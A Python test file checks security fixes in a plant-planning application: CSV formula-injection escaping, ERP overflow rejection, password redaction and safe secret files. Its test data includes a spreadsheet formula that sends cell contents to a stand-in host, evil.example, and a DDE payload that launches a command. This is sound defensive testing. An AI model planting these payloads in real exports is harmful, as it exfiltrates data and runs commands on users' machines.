"""Finding 11, the rest: formula injection, ERP values that overflow, secrets in logs and files.

Before: an ERP name beginning with ``=`` went into plan CSVs as a formula; ERP integers past
2**63 wrapped through ``astype("int64")``, dates far in the future overflowed the forecast's
date range and a huge lead time the planner's; an RTSP URL was logged with its password; the
database password was printed by ``check-config``; a secret was written through a symlink.
"""

from __future__ import annotations

import csv
import http.client
import json
from pathlib import Path

import pandas as pd
import pytest
from support.procs import peakline

from edge.sources import OpenCVCapture
from peakline import wire
from peakline.errors import ConfigError, redact_url
from plant.broker.files import write_secret
from plant.dashboard import serve_dashboard
from plant.dashboard.config import DashboardConfig
from plant.erp.plans import export_plan_csv
from plant.store import Store

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _plan_with_evil_names(store: Store) -> None:
    df = pd.DataFrame({"sku": [EVIL, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "lotus-box"],
                       "qty": [1.0, 2.0, 3.0, -4.0, 5.0]})
    store.save_plan("production", "p1", "f1", df, {})


def test_plan_csvs_carry_no_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PEAKLINE_DASHBOARD_TOKEN", raising=False)
    with Store.open(str(tmp_path / "plant.db")) as store:
        _plan_with_evil_names(store)
        path = export_plan_csv(store, "production", tmp_path / "production.csv")
        exported = path.read_text()
        with serve_dashboard(store, config=DashboardConfig(port=0)) as server:
            conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
            conn.request("GET", "/api/plans/production.csv")
            downloaded = conn.getresponse().read().decode()
            conn.close()
    for text in (exported, downloaded):
        rows = list(csv.DictReader(text.splitlines()))
        skus = [r["sku"] for r in rows]
        assert skus[:4] == ["'" + EVIL, "'+1+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3"]
        assert skus[4] == "lotus-box"
        assert [float(r["qty"]) for r in rows] == [1.0, 2.0, 3.0, -4.0, 5.0]  # numbers stay


@pytest.mark.parametrize(("kind", "row", "why"), [
    ("orders", {"order_id": "o1", "sku": "s", "order_date": "2025-01-01",
                "due_date": "9999-12-31", "qty": 5.0, "channel": "oem"}, "year 9999"),
    ("orders", {"order_id": "o1", "sku": "s", "order_date": "2025-01-01",
                "due_date": "2025-02-01", "qty": 1e300, "channel": "oem"}, "larger than"),
    ("sales", {"sku": "s", "date": "2025-01-01", "orders": 2**63 + 5}, "larger than"),
])
def test_erp_values_that_would_overflow_are_refused(kind: str, row: dict[str, object],
                                                    why: str) -> None:
    message = {"schema": f"peakline.erp.{kind}/1", "rows": [row]}
    with pytest.raises(wire.WireError, match=why):
        wire.parse_erp(kind, json.dumps(message).encode())
    fine = {**row, **{k: v for k, v in (("due_date", "2025-02-01"), ("qty", 5.0),
                                          ("orders", 5.0)) if k in row}}
    wire.parse_erp(kind, json.dumps({**message, "rows": [fine]}).encode())  # the same, sane


def test_a_lead_time_past_ten_years_is_refused() -> None:
    """Materials and suppliers (CSV import) carry lead times the planner adds to dates."""
    from pydantic import BaseModel, ValidationError

    from peakline.wire import erp

    rows = [m for m in vars(erp).values() if isinstance(m, type) and issubclass(m, BaseModel)
            and "lead_time_days" in m.model_fields]
    assert len(rows) >= 2
    for model in rows:
        with pytest.raises(ValidationError, match="3650"):
            model.model_validate({"lead_time_days": 10**9})


def test_an_rtsp_password_never_reaches_a_log_line() -> None:
    url = "rtsp://admin:S3cret-pass@10.0.0.7:554/stream1"
    source = OpenCVCapture(url, live=True)
    assert "S3cret" not in source.name and source.name.startswith("rtsp://admin:***@")
    assert redact_url(f"cannot open {url}") == "cannot open rtsp://admin:***@10.0.0.7:554/stream1"


def test_check_config_does_not_print_the_database_password(tmp_path: Path) -> None:
    cfg = tmp_path / "plant.toml"
    cfg.write_text('[plant]\nsite = "s1"\n'
                   'db = "postgresql+psycopg://peakline:Hunter2-db@db-host/peakline"\n')
    check = peakline("check", tmp_path, "plant", "check-config", str(cfg))
    assert check.run(timeout=60) == 0
    out = check.output()
    assert "Hunter2" not in out and "peakline:***@db-host" in out


def test_a_secret_is_never_written_through_a_symlink(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere" / "stolen"
    target.parent.mkdir()
    link = tmp_path / "node.secret"
    link.symlink_to(target)
    with pytest.raises(ConfigError, match="symbolic link"):
        write_secret(link, "s3cret")
    assert not target.exists()
    plain = tmp_path / "plant.secret"
    write_secret(plain, "s3cret")
    write_secret(plain, "s3cret-2")  # replaced, not appended, still 0600
    assert plain.read_text() == "s3cret-2\n" and plain.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_an_empty_token_is_no_token(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A blank token must not become the password of a dashboard open to the network."""
    blank = tmp_path / "token"
    blank.write_text("  \n")
    with Store.open(str(tmp_path / "plant.db")) as store:
        monkeypatch.setenv("PEAKLINE_DASHBOARD_TOKEN", "   ")
        with pytest.raises(ConfigError, match="requires an access token"):
            serve_dashboard(store, config=DashboardConfig(host="0.0.0.0", port=0))
        monkeypatch.delenv("PEAKLINE_DASHBOARD_TOKEN")
        with pytest.raises(ConfigError, match="empty"):
            serve_dashboard(store, config=DashboardConfig(host="0.0.0.0", port=0,
                                                          token_file=str(blank)))
